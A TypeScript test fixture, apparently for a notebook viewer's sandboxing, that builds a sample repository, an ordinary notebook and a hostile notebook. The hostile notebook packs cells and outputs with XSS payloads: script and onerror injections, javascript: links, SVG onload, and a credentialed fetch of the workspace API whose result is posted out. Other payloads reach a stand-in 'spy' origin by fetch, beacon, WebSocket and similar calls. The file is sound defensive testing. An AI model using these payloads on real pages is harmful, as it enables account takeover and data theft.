/** Notebooks in a repository that a server follows: an ordinary one, and what a hostile one may carry. */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Play } from './team.ts';
import { RepositoryDraft } from './repository.ts';

export interface NotebookRepository {
  readonly folder: string;
  /** Its id among the facts. */
  readonly id: string;
  /** The commits in the order of `texts`. */
  readonly shas: readonly string[];
  remove(): void;
}

/** A repository `churn` of the project CHURN with one file, a commit for each of its texts. */
export async function withNotebook(
  { play }: { play: Play },
  path: string,
  ...texts: readonly string[]
): Promise<NotebookRepository> {
  const folder = mkdtempSync(join(tmpdir(), 'dualtrack-notebook-'));
  const draft = new RepositoryDraft();
  const marks = texts.map((text, n) => draft.commit(`Version ${n + 1}`, { files: { [path]: text } }));
  draft.at(marks.at(-1)!, 'main');
  const shaOf = draft.write(folder);
  const made = await play('repo.add', { project: 'CHURN', source: folder, name: 'churn', defaultBranch: 'main' });
  return {
    folder,
    id: made!.id,
    shas: marks.map(shaOf),
    remove: () => rmSync(folder, { recursive: true, force: true }),
  };
}

/** One red pixel. */
const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

export const words = (source: string) => ({ cell_type: 'markdown', source });
export const code = (source: string, ...outputs: readonly unknown[]) => ({
  cell_type: 'code',
  execution_count: 1,
  source,
  outputs,
});
export const shows = (data: Readonly<Record<string, string>>) => ({ output_type: 'display_data', data });
export const prints = (text: string) => ({ output_type: 'stream', name: 'stdout', text });

export const notebookOf = (...cells: readonly unknown[]): string =>
  JSON.stringify({ nbformat: 4, metadata: { language_info: { name: 'python' } }, cells });

export const plainNotebook = notebookOf(
  words('# Look at the labels\n\nThree months of calls.'),
  code(
    'frame = load("labels")\nframe.head()',
    shows({ 'text/html': '<table><tr><td>price</td><td>12840</td></tr></table>' }),
  ),
  words('## Result'),
  code('plot(frame)', shows({ 'image/png': PIXEL, 'text/plain': '<Figure>' })),
  code('print(f1)', prints('\u001b[32mf1 0.842\u001b[0m\n')),
  code('1/0', { output_type: 'error', ename: 'ZeroDivisionError', evalue: 'division by zero', traceback: [] }),
);

/**
 * A notebook in which everything tries to run in the page, to read it, or to reach `spy` (an origin that writes down
 * who asks). Each try that runs in its own frame says so by a message `ran ...`.
 */
export function hostileNotebook(spy: string): string {
  const script = (name: string): string => `
    parent.postMessage('ran ${name}', '*');
    try { parent.document.title = 'taken'; } catch {}
    try { top.location = '${spy}/top'; } catch {}
    try { localStorage.setItem('x', '1'); } catch {}
    try { fetch('${spy}/fetch'); } catch {}
    try { fetch('/api/workspace', { credentials: 'include' }).then((r) => r.text()).then((t) => parent.postMessage('read ' + t, '*')).catch(() => 0); } catch {}
    try { navigator.sendBeacon('${spy}/beacon'); } catch {}
    try { new WebSocket('${spy.replace('http', 'ws')}/socket'); } catch {}
    try { new EventSource('${spy}/events'); } catch {}
    try { new Image().src = '${spy}/image'; } catch {}
    try { new Worker('${spy}/worker.js'); } catch {}
    try { open('${spy}/popup'); } catch {}
    try { const link = document.createElement('link'); link.rel = 'prefetch'; link.href = '${spy}/prefetch'; document.head.append(link); } catch {}
    try { const form = document.createElement('form'); form.action = '${spy}/form'; document.body.append(form); form.submit(); } catch {}
    try { import('${spy}/module.js').catch(() => 0); } catch {}
    try { alert('x'); } catch {}
    parent.postMessage(1e9, '*');
    setTimeout(() => { location.href = '${spy}/navigated'; }, 50);
  `;
  const markup = [
    `<img src="${spy}/img" onerror="parent.postMessage('ran img','*')">`,
    `<link rel="stylesheet" href="${spy}/style.css"><style>@import url(${spy}/import.css);body{background:url(${spy}/bg)}</style>`,
    `<iframe src="${spy}/frame"></iframe><object data="${spy}/object"></object><embed src="${spy}/embed">`,
    `<script src="${spy}/script.js"></script><meta http-equiv="refresh" content="0;url=${spy}/refresh"><base href="${spy}/">`,
    `<video src="${spy}/video" autoplay></video><a href="${spy}/ping" ping="${spy}/ping">x</a>`,
    `<svg><image href="${spy}/svg"/><use href="${spy}/use#a"/></svg>`,
  ];
  const loud = '<script>window.__taken = true</script><img src=x onerror="window.__taken = true">';
  return notebookOf(
    words(
      `# ${loud}\n\n<img src="${spy}/markdown" onerror="window.__taken=true"> [x](javascript:window.__taken=true) ![y](${spy}/picture)`,
    ),
    code(loud, prints(`${loud}\u001b]8;;${spy}/osc\u0007link\u001b]8;;\u0007`)),
    code('html', shows({ 'text/html': `<script>${script('html')}</script>` })),
    ...markup.map((each) => code('markup', shows({ 'text/html': each }))),
    code(
      'svg',
      shows({
        'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.document.title=1"><script>parent.document.title = 'taken'</script></svg>`,
      }),
    ),
    code(
      'js',
      shows({
        'application/javascript': `${script('js')}; const late = "</script><script>parent.document.title = 'taken'</script>";`,
      }),
    ),
    code('png', shows({ 'image/png': '"><script>window.__taken=true</script>' })),
    code('error', { output_type: 'error', ename: loud, evalue: loud, traceback: [loud] }),
    { cell_type: 'raw', source: loud },
  );
}
